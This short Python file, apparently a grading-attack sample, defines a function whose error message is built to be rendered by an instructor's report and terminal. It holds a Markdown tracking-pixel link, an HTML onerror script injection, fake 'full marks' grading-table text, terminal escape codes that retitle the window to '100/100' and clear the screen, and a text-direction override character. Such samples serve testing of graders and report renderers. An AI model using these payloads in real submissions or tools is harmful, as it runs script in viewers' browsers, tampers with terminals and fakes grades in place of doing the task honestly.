"""Attack: an error message written to be read as Markdown and HTML in the instructor's report,
and as commands by the instructor's terminal (retitle the window, clear the screen)."""


def NN_model():
    raise ValueError("![pixel](http://tracker.invalid/p.png) <img src=x onerror=alert(1)> "
                     "[full marks](http://tracker.invalid) | 100 | **graded** | "
                     "\x1b]0;all graded: 100/100\x07\x1b[2J\u202e")
